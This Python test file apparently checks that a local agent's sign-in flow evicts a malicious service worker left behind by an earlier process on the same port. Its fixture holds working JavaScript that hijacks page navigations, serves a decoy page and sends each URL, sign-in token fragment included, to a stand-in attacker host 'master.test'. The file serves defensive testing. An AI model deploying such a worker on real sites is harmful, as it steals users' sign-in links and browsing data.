#!/usr/bin/env python3
"""A service worker that whoever served the agent's port before has left in the browser: a person
who signs in does not meet it, and it goes."""

import unittest

from api_device import ApiTest
from chromium import REPORTS_WITHIN_S, Chromium, Site, Tap
from costs import AttackTest
from lanyard_process import wait_until

# Tells its master where each page is that it stands before, and shows one of its own.
WORKER = """
addEventListener("install", () => skipWaiting());
addEventListener("activate", event => event.waitUntil(clients.claim()));
addEventListener("fetch", event => {
  if (event.request.mode !== "navigate") return;
  event.respondWith(new Response(`<!doctype html><p>not the agent</p><script>
    fetch("%(master)s/report", {method: "POST", mode: "no-cors", body: location.href});
  </script>`, {headers: {"Content-Type": "text/html"}}));
});"""
SQUATTED = """<!doctype html><script>
navigator.serviceWorker.register("/worker.js", {scope: "/"})
  .then(() => navigator.serviceWorker.ready)
  .then(() => { document.title = "ready"; });
</script>"""


class Worker(AttackTest, ApiTest):
    @classmethod
    def setUpClass(cls):
        super().setUpClass()
        port = cls.api.port
        cls.master = Site()
        cls.addClassCleanup(cls.master.close)
        cls.squatter = Site()
        cls.addClassCleanup(cls.squatter.close)
        cls.squatter.pages = {
            "/": ("text/html", SQUATTED),
            "/worker.js": ("text/javascript", WORKER % {
                "master": f"http://master.test:{cls.master.port}"})}
        cls.tap = Tap(cls.squatter.port)  # the port is the squatter's, and then the agent's
        cls.addClassCleanup(cls.tap.close)
        cls.browser = Chromium({f"127.0.0.1:{port}": cls.tap.port,
                                f"*.localhost:{port}": cls.tap.port,
                                f"master.test:{cls.master.port}": cls.master.port})
        cls.addClassCleanup(cls.browser.close)

    def go(self, url):
        self.browser.call("Page.navigate", self.page.session, url=url)

    def shows(self, text):
        return text in (self.page.value("document.body?.innerText") or "")

    def wait_for(self, text):
        wait_until(f"the page shows: {text}", lambda: self.shows(text), REPORTS_WITHIN_S)

    def test_a_worker_hears_of_no_sign_in_and_is_removed(self):
        agent = f"http://127.0.0.1:{self.api.port}"
        self.page = self.browser.open(f"{agent}/")
        wait_until("the worker stands there", lambda: self.page.value("document.title") == "ready",
                   REPORTS_WITHIN_S)
        self.tap.cut(self.api.port)
        # It is there: a link to the address that it knows is its prey.
        self.go("about:blank")
        self.go(f"{agent}/#signin=prey")
        wait_until("its master hears", lambda: self.master.reports == [f"{agent}/#signin=prey"],
                   REPORTS_WITHIN_S)
        url = self.device.ok("ui", "--print-url").strip()
        self.go(url)
        self.wait_for("You are signed in.")
        self.assertEqual(self.page.value("location.href"), url.partition("#")[0])
        self.assertEqual(self.page.value("navigator.serviceWorker.controller"), None)
        self.assertEqual(len(self.master.reports), 1)

        def comes_through():
            """The browser asks for the worker's script anew a second after a visit of its pages,
            unless they are visited again meanwhile."""
            self.go(f"{agent}/")
            wait_until("some page is there", lambda: self.shows("not the agent") or
                       self.shows("You are not signed in"), REPORTS_WITHIN_S)
            return self.shows("You are not signed in")
        wait_until("the worker has gone", comes_through, REPORTS_WITHIN_S, every=3)
        self.assertEqual(self.page.value(
            "navigator.serviceWorker.getRegistrations().then(all => all.length)"), 0)
        self.assertIn(b"Service-Worker: script", self.asked())

    def asked(self):
        return b"".join(bytes(each.asked) for each in list(self.tap.exchanges))


if __name__ == "__main__":
    unittest.main(verbosity=2)
